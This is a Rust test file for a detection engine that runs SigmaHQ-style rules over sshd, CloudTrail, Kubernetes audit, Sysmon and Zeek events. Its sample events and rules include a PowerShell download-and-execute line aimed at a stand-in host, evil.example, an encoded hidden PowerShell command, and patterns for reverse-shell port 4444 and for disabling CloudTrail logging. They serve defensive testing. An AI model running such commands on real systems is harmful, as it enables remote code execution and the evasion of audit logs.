//! Rules as SigmaHQ writes them, over the events of each kind of log.

use super::*;

const US: i64 = 1_000_000;

fn row(value: Value) -> Map<String, Value> {
    value.as_object().expect("an object").clone()
}

fn judge(rules: &[&str]) -> Judge {
    Judge::of(rules.iter().copied()).expect("rules that run")
}

/// The rules that an event matches.
fn matched(judge: &mut Judge, event: Value) -> Vec<String> {
    judge.judge(&row(event), US).into_iter().map(|one| one.title).collect()
}

fn rule(title: &str, logsource: &str, detection: &str) -> String {
    format!("title: {title}\nid: {title}\nlogsource: {{{logsource}}}\nlevel: high\ndetection:\n{detection}")
}

fn process(image: &str, command: &str, parent: &str) -> Value {
    json!({
        "time": "2026-01-01T00:00:00Z", "source_name": "windows sysmon", "class_uid": 1007, "actor_process": image,
        "cmd_line": command, "actor_parent": parent, "actor_user": "CORP\\eve", "device_hostname": "ws1",
    })
}

fn sshd(user: &str, address: &str) -> Value {
    let raw = format!("Jan  1 00:00:00 web1 sshd[7]: Failed password for {user} from {address} port 22 ssh2");
    json!({
        "time": "2026-01-01T00:00:00Z", "source_name": "sshd", "class_uid": 3002, "status_id": 2, "actor_user": user,
        "src_ip": address, "device_hostname": "web1", "raw": raw,
    })
}

#[test]
fn keywords_of_a_line_are_found_in_its_own_log_only() {
    let keywords = "    keywords:\n        - 'Failed password for root'\n        - 'Did not receive identification'\n    condition: keywords\n";
    let mut judge = judge(&[&rule("guess", "product: linux, service: sshd", keywords)]);
    let told = judge.judge(&row(sshd("root", "203.0.113.7")), US);
    assert_eq!(told.len(), 1);
    assert_eq!((told[0].severity, told[0].confidence), ("high", 0.85));
    assert!(
        told[0].evidence["fields"][0]["value"].as_str().is_some_and(|text| text.contains("Failed password")),
        "{told:?}"
    );
    assert!(matched(&mut judge, sshd("ada", "203.0.113.7")).is_empty());
    let mut other = sshd("root", "203.0.113.7");
    other["source_name"] = "cloudtrail".into();
    assert!(matched(&mut judge, other).is_empty(), "a rule for sshd is not run over CloudTrail");
}

#[test]
fn calls_of_clouds_and_clusters_are_found_by_their_own_fields() {
    let stop = "    selection_source:\n        eventSource: cloudtrail.amazonaws.com\n        eventName:\n            - StopLogging\n            \
                - UpdateTrail\n            - DeleteTrail\n    condition: selection_source\n";
    let exec = "    selection:\n        verb: create\n        objectRef.resource: pods\n        objectRef.subresource: \
                exec\n    condition: selection\n";
    let mut judge = judge(&[
        &rule("stop", "product: aws, service: cloudtrail", stop),
        &rule("exec", "category: application, product: kubernetes, service: audit", exec),
    ]);
    let trail = |name: &str, raw: bool| {
        let raw = raw.then(|| json!({ "eventName": name, "eventSource": "cloudtrail.amazonaws.com" }).to_string());
        json!({
            "source_name": "cloudtrail", "class_uid": 6003, "api_operation": name, "resource_type": "cloudtrail.amazonaws.com",
            "raw": raw,
        })
    };
    assert_eq!(matched(&mut judge, trail("StopLogging", true)), ["stop"]);
    assert_eq!(matched(&mut judge, trail("stoplogging", false)), ["stop"], "by the columns, and whatever the case");
    assert!(matched(&mut judge, trail("StartLogging", true)).is_empty());
    let audit = |subresource: &str| {
        let raw = json!({ "verb": "create", "objectRef": { "resource": "pods", "subresource": subresource } });
        json!({ "source_name": "kubernetes_audit", "class_uid": 6003, "api_operation": "create", "raw": raw.to_string() })
    };
    assert_eq!((matched(&mut judge, audit("exec")), matched(&mut judge, audit("log"))), (vec!["exec".into()], vec![]));
}

#[test]
fn processes_are_judged_with_all_modifiers() {
    let all = "    selection:\n        CommandLine|contains|all:\n            - ' -enc '\n            - 'hidden'\n    condition: selection\n";
    let re = "    selection:\n        CommandLine|re: '(?i)\\biex\\b.*https?://'\n    condition: selection\n";
    let filtered = "    selection:\n        Image|endswith: '\\powershell.exe'\n        ParentImage|endswith:\n            - '\\winword.exe'\n            - \
                    '\\excel.exe'\n    filter_main:\n        User|startswith: 'CORP\\svc'\n    condition: selection and not filter_main\n";
    let one_of = "    selection_img:\n        Image|endswith: '\\whoami.exe'\n    selection_cli:\n        CommandLine|contains: whoami\n    \
                  condition: 1 of selection_*\n";
    let source = "product: windows, category: process_creation";
    let rules = [
        rule("all", source, all),
        rule("re", source, re),
        rule("filtered", source, filtered),
        rule("one-of", source, one_of),
    ];
    let mut judge = judge(&rules.each_ref().map(String::as_str));
    let shell = "C:\\Windows\\powershell.exe";
    for (event, expected) in [
        (process(shell, "powershell -w hidden -enc AAAA", "C:\\explorer.exe"), vec!["all"]),
        (process(shell, "powershell -enc AAAA", "C:\\explorer.exe"), vec![]),
        (process(shell, "IEX (iwr http://evil.example/a)", "C:\\explorer.exe"), vec!["re"]),
        (process(shell, "powershell", "C:\\Office\\WINWORD.EXE"), vec!["filtered"]),
        (process("C:\\cmd.exe", "cmd /c WhoAmI", "C:\\explorer.exe"), vec!["one-of"]),
    ] {
        assert_eq!(matched(&mut judge, event.clone()), expected, "{event}");
    }
    let mut service = process(shell, "powershell", "C:\\Office\\WINWORD.EXE");
    service["actor_user"] = "CORP\\svc-office".into();
    assert!(matched(&mut judge, service).is_empty(), "the filter takes it out");
    let mut linux = process("/usr/bin/whoami", "whoami", "/bin/sh");
    linux["source_name"] = "falco".into();
    assert!(matched(&mut judge, linux).is_empty(), "a rule for Windows is not run over Linux");
}

#[test]
fn addresses_are_matched_by_their_network() {
    let cidr = "    selection:\n        DestinationPort: 4444\n    filter:\n        DestinationIp|cidr:\n            - 10.0.0.0/8\n            - \
                192.168.0.0/16\n    condition: selection and not filter\n";
    let mut judge = judge(&[&rule("out", "category: network_connection", cidr)]);
    let connection = |address: &str, port: i64| json!({ "source_name": "zeek", "class_uid": 4001, "src_ip": "10.0.0.4", "dst_ip": address, "dst_port": port });
    assert_eq!(matched(&mut judge, connection("203.0.113.9", 4444)), ["out"]);
    assert!(matched(&mut judge, connection("10.9.9.9", 4444)).is_empty());
    assert!(matched(&mut judge, connection("203.0.113.9", 443)).is_empty());
}

#[test]
fn a_correlation_counts_by_group_within_its_time_and_its_parts_tell_nothing() {
    let failed =
        rule("failed", "category: authentication", "    selection:\n        status_id: 2\n    condition: selection\n");
    let many = "title: many\nid: many\nlevel: critical\ncorrelation:\n    type: value_count\n    rules: [failed]\n    group-by: [src_ip]\n    \
                timespan: 10m\n    condition:\n        field: actor_user\n        gte: 3\n";
    let mut judge = judge(&[&failed, many]);
    let mut told = |user: &str, address: &str, minute: i64| judge.judge(&row(sshd(user, address)), minute * 60 * US);
    assert!(told("ada", "203.0.113.7", 0).is_empty() && told("bob", "203.0.113.7", 1).is_empty());
    assert!(told("bob", "203.0.113.7", 2).is_empty(), "a user counts once");
    assert!(told("eve", "203.0.113.8", 3).is_empty(), "another address is another group");
    let found = told("eve", "203.0.113.7", 4);
    assert_eq!(found.iter().map(|one| one.title.as_str()).collect::<Vec<_>>(), ["many"]);
    assert_eq!((found[0].group.as_slice(), found[0].confidence), (["203.0.113.7".to_owned()].as_slice(), 0.95));
    assert_eq!((&found[0].evidence["value"], &found[0].evidence["by"]["src_ip"]), (&json!(3.0), &json!("203.0.113.7")));
    assert!(told("kim", "203.0.113.7", 30).is_empty(), "by then the others are too long ago");
}

#[test]
fn what_was_counted_goes_on_when_rules_are_loaded_anew() {
    let failed =
        rule("failed", "category: authentication", "    selection:\n        status_id: 2\n    condition: selection\n");
    let many = "title: many\nid: many\nlevel: high\ncorrelation:\n    type: event_count\n    rules: [failed]\n    group-by: [src_ip]\n    \
                timespan: 10m\n    condition:\n        gte: 2\n";
    let mut before = judge(&[&failed, many]);
    assert!(matched(&mut before, sshd("ada", "203.0.113.7")).is_empty());
    let mut after = judge(&[&failed, many]);
    after.go_on(before.counted());
    assert_eq!(matched(&mut after, sshd("ada", "203.0.113.7")), ["many"]);
    after.forget();
    assert!(matched(&mut after, sshd("ada", "203.0.113.7")).is_empty(), "it counts anew");
    assert_eq!(matched(&mut after, sshd("ada", "203.0.113.7")), ["many"]);
}

#[test]
fn what_is_only_information_or_out_of_date_tells_nothing_and_filters_hold_over_files() {
    let selection = "    selection:\n        status_id: 2\n    condition: selection\n";
    let information =
        rule("information", "category: authentication", selection).replace("level: high", "level: informational");
    let old = format!("{}status: deprecated\n", rule("old", "category: authentication", selection));
    let plain = rule("plain", "category: authentication", selection).replace("level: high\n", "");
    let filter = "title: not ours\nlogsource: {category: authentication}\nfilter:\n    rules: [plain]\n    selection:\n        src_ip: \
                  203.0.113.8\n    condition: not selection\n";
    let mut judge = judge(&[&information, &old, &plain, filter]);
    let told = judge.judge(&row(sshd("ada", "203.0.113.7")), US);
    assert_eq!(told.iter().map(|one| (one.title.as_str(), one.severity)).collect::<Vec<_>>(), [("plain", "medium")]);
    assert!(matched(&mut judge, sshd("ada", "203.0.113.8")).is_empty());
}

#[test]
fn values_of_evidence_are_bounded() {
    let long = "x".repeat(10_000);
    let contains = "    selection:\n        CommandLine|contains: xxx\n    condition: selection\n";
    let mut judge = judge(&[&rule("long", "category: process_creation", contains)]);
    let told = judge.judge(&row(process("C:\\a.exe", &long, "C:\\b.exe")), US);
    let value = told[0].evidence["fields"][0]["value"].as_str().expect("a text");
    assert_eq!(value.len(), VALUE_CHARS_MAX);
}
